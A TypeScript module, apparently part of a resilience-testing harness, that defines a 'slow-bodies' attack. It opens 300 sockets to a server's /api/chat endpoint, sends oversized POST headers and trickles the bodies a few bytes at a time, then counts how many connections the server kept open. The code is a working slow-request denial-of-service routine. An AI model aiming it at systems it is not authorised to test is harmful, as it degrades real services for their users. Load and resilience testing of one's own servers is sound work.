import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from '../attack.ts';

const SOCKETS = 300;
const LASTS_MS = 3000;
const CHUNKS = 30;

/** Bodies that arrive in pieces and never end. */
export const slowBodies: Attack = {
  name: 'slow-bodies',
  summary: '300 requests whose bodies arrive a few bytes at a time',
  attack: async ({ url }) => {
    const { hostname, port } = new URL(url);
    const head = `POST /api/chat HTTP/1.1\r\nhost: ${hostname}\r\ncontent-type: application/json\r\ncontent-length: 2000000\r\n\r\n{"query":"`;
    const sockets: Socket[] = [];
    for (let n = 0; n < SOCKETS; n += 1) {
      const socket = connect(Number(port), hostname);
      socket.on('error', () => {});
      socket.write(head);
      sockets.push(socket);
    }
    for (let chunk = 0; chunk < CHUNKS; chunk += 1) {
      for (const socket of sockets) socket.write('x'.repeat(1000));
      await delay(LASTS_MS / CHUNKS);
    }
    const open = sockets.filter(({ destroyed }) => !destroyed).length;
    for (const socket of sockets) socket.destroy();
    return `${open} of ${SOCKETS} were still read`;
  },
};
